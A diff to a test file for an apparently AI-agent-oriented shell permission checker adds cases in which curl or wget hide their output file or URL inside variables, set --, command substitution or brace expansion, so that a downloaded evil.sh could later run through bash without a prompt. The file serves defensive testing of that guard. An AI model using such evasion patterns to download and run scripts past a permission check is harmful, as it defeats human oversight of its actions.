@@ -218,7 +218,8 @@ describe("download targets bash expands", () => {
     ["curl -o 'ev{i,}l.sh' https://x.test/a", ["ev{i,}l.sh"]],
     ["curl -o a~b https://x.test/a", ["a~b"]],
     // An expansion elsewhere on the line, or in the URL curl -o saves from.
-    ['curl -o x.sh "https://x.test/$V/a"; echo $(date)', ["x.sh"]],
+    ["curl -o x.sh https://x.test/a; echo $(date)", ["x.sh"]],
+    ['curl -o x.sh "https://x.test/$V/a"; echo $PWD', ["x.sh"]],
     ['curl -H "Authorization: $TOKEN" -o x.json https://x.test/a', ["x.json"]],
     // A name a URL gives (-O, wget) with an expansion: its folder, as one the server gives.
     ["curl -O https://x.test/$F", ["./"]],
@@ -259,5 +260,43 @@ describe("downloads of a script run in turn", () => {
     const facts = { downloadedFiles: new Set<string>() };
     await recordDownloads("bash -c 'curl -o evil.sh https://x.test/a'", ws, facts);
     expect(downloadExecution("bash evil.sh", facts.downloadedFiles)).toBeDefined();
+  });
+});
+
+// A downloader's word bash expands from its start, or on a line whose substitution left no trace,
+// may hold options of its own (F=-oevil.sh; curl "$F" …) or be a URL whose saved name is not on the
+// line (U=https://x.test/evil.sh; wget "$U"): both wrote evil.sh, recorded nothing and passed, so a
+// later bash evil.sh ran unasked. Such a word now counts as a target bash expands, and asks.
+describe("downloader words that may hold options", () => {
+  it.each([
+    'F=-oevil.sh; curl "$F" https://x.test/a',
+    "F='-o evil.sh'; curl $F https://x.test/a",
+    'set -- -o evil.sh; curl "$@" https://x.test/a',
+    "curl $(echo -oevil.sh) https://x.test/a",
+    "curl {-o,evil.sh} https://x.test/a",
+    'F=-Oevil.sh; wget "$F" https://x.test/a',
+    'U=https://x.test/evil.sh; wget "$U"',
+    "U=https://x.test/evil.sh; curl -O $U",
+    "wget `echo https://x.test/evil.sh`",
+    // Where a substitution sits is not read, so on its line any expanded word may hold one.
+    'curl -o x.sh "https://x.test/$V/a"; echo $(date)',
+  ])("%s asks", (command) => {
+    expect(detectDownloads(command)).toContain("./");
+    expect(downloadsUnplaced(command)).toBe(true);
+    expect(downloadExecution(command, new Set())).toBeDefined();
+  });
+
+  it.each([
+    // The value of an option taking one is never an option.
+    ['curl -H "$AUTH" -o x.json https://x.test/a', ["x.json"]],
+    ['curl -sSd "$BODY" -o x.json https://x.test/a', ["x.json"]],
+    ['curl --header "$AUTH" -o x.json https://x.test/a', ["x.json"]],
+    // An expansion in a URL's host: the saved name is on the line.
+    ["wget https://$H/evil.sh", ["evil.sh"]],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell command line, not a JS template
+    ["curl -O https://${H}/evil.sh", ["evil.sh"]],
+  ])("%s → %j, and does not ask", (command, expected) => {
+    expect(detectDownloads(command)).toEqual(expected);
+    expect(downloadsUnplaced(command)).toBe(false);
   });
 });
